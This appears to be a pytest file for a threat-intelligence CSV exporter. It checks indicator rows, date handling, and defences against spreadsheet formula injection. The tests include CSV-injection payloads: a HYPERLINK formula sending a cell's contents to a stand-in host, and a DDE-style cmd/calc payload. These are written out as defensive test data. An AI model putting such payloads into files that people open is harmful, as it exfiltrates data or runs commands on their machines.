"""CSV of indicators: header, one row per indicator (flagged ones kept, with their flags), RFC 4180 quoting, and no
cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.export.conftest import ioc
from threadline.export.csv_export import COLUMNS, FORMULA_START, export_csv, spreadsheet_safe


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_rows(heron: dict[str, Any]) -> None:
    text = export_csv(heron)
    found = rows(text)
    assert tuple(found[0]) == COLUMNS
    assert len(found) == len(heron["iocs"])
    by_value = {r["value"]: r for r in found}
    url = by_value["http://203.0.113.77:8080/dl?id=4471"]
    assert url["defanged"] == "hxxp://203.0.113[.]77:8080/dl?id=4471"
    assert url["flags"] == "; ".join(ioc(heron, url["value"])["flags"]) and "warninglist" in url["flags"]
    assert url["warninglists"] == "; ".join(ioc(heron, url["value"])["warninglists"]) != ""
    assert by_value["stormrelay.org"]["flags"] == ""
    assert by_value["stormrelay.org"]["first_seen"] == "2024-06-03"          # the article's published_time
    assert by_value["stormrelay.org"]["source"] == heron["document"]["source"]
    assert by_value["HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"]["type"] == "registry_key"
    assert export_csv(heron) == text


def test_empty_analysis_gives_the_header_only(dianxun: dict[str, Any]) -> None:
    assert dianxun["iocs"] == []
    assert export_csv(dianxun).splitlines() == [",".join(COLUMNS)]


def test_no_date_is_never_the_epoch(heron: dict[str, Any]) -> None:
    undated = {**heron, "document": {**heron["document"], "published": None}}
    assert all(not r["first_seen"].startswith("1970") and r["first_seen"] for r in rows(export_csv(undated)))


def test_a_formula_title_is_not_run(analyse: Callable[..., dict[str, Any]], tmp_path: Path) -> None:
    """A report whose title is a spreadsheet formula (OWASP CSV injection): every cell stays text."""
    title = '=HYPERLINK("http://198.51.100.7/x?c="&A1,"Click for details")'
    report = tmp_path / "hostile.md"
    report.write_text(f"---\ntitle: '{title}'\npublished: 2024-05-02\n---\n\n# Weekly notes\n\n"
                      "The operators staged payloads on files-cdn.stormrelay[.]org and beaconed to "
                      "185.220.101[.]47 over HTTPS.\n", encoding="utf-8")
    analysis = analyse(report)
    assert analysis["document"]["title"] == title and analysis["iocs"]
    found = rows(export_csv(analysis))
    assert {r["report"] for r in found} == {"'" + title}
    for row in found:
        assert not [c for c in row.values() if c.startswith(FORMULA_START)], row


def test_values_starting_with_a_formula_character(heron: dict[str, Any]) -> None:
    """File names and registry values are the report's text too: one beginning with - or @ is quoted."""
    hostile = [dict(heron["iocs"][0], type="file_name", value="-cmd.exe", defanged="-cmd.exe"),
               dict(heron["iocs"][0], type="file_name", value="@SUM(1+9)*cmd|' /C calc'!A0",
                    defanged="@SUM(1+9)*cmd|' /C calc'!A0"),
               dict(heron["iocs"][0], type="file_name", value="\tpayload.dll", defanged="\tpayload.dll")]
    found = rows(export_csv({**heron, "iocs": hostile}))
    assert [r["value"] for r in found] == ["'-cmd.exe", "'@SUM(1+9)*cmd|' /C calc'!A0", "'\tpayload.dll"]
    for row in found:
        assert not [c for c in row.values() if c.startswith(FORMULA_START)], row


@pytest.mark.parametrize(("cell", "safe"), [
    ("=1+2", "'=1+2"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@x", "'@x"), ("\rx", "'\rx"),
    ("-1", "-1"), ("+44", "+44"), ("-0.5", "-0.5"), ("1e-3", "1e-3"), ("stormrelay.org", "stormrelay.org"),
    ("", ""),
])
def test_spreadsheet_safe(cell: str, safe: str) -> None:
    assert spreadsheet_safe(cell) == safe
